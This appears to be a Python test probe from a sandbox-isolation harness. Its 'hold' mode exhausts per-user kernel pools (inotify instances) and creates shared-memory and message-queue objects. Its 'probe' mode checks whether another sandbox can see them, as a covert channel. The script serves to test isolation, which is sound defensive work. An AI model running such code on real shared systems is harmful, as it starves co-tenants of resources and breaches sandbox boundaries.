#!/usr/bin/env python3
"""Attack: drain kernel pools kept per user or per machine rather than per namespace, so
that another sandbox finds them empty; or use them as a channel to another sandbox.

``hold KEY``: at startup it takes every inotify instance it can (up to 2000), makes a
SysV shared-memory segment under KEY and a POSIX message queue named after it, and
holds them all for the game.  ``probe KEY``: at its first turn (the holder has said
``hello`` by then) it makes one inotify instance and looks for the holder's segment
and queue.  It reports what it got, then plays randomly.
"""

import ctypes
import errno
import os
import sys

from _common import play, report

MODE, KEY = sys.argv[1], int(sys.argv[2], 16)
IPC_CREAT, IPC_EXCL = 0o1000, 0o2000
O_CREAT, O_RDWR = os.O_CREAT, os.O_RDWR
libc = ctypes.CDLL(None, use_errno=True)
try:
    librt = ctypes.CDLL("librt.so.1", use_errno=True)
except OSError:  # a C library that holds mq_open itself
    librt = libc
held: list[int] = []


def err() -> str:
    return errno.errorcode.get(ctypes.get_errno(), "?")


def inotify() -> str:
    fd = libc.inotify_init1(os.O_CLOEXEC)
    if fd < 0:
        return err()
    held.append(fd)
    return "ok"


def queue_name() -> bytes:
    return b"/bsa-%x" % KEY


def hold() -> None:
    got, stopped = 0, None
    while got < 2000:
        outcome = inotify()
        if outcome != "ok":
            stopped = outcome
            break
        got += 1
    shm = libc.shmget(KEY, 4096, IPC_CREAT | IPC_EXCL | 0o666)
    mq = librt.mq_open(queue_name(), O_CREAT | O_RDWR, 0o666, None)
    report(attack="pools", mode="hold", inotify=got, stopped_by=stopped,
           shm="ok" if shm >= 0 else err(), mq="ok" if mq >= 0 else err())


def probe() -> None:
    shm = libc.shmget(KEY, 0, 0)
    shm_found = "found" if shm >= 0 else err()
    mq = librt.mq_open(queue_name(), O_RDWR, 0, None)
    mq_found = "found" if mq >= 0 else err()
    report(attack="pools", mode="probe", inotify=inotify(), shm=shm_found, mq=mq_found)


play(f"drains-pools-{MODE}", hold if MODE == "hold" else probe, at="start" if MODE == "hold" else "turn")
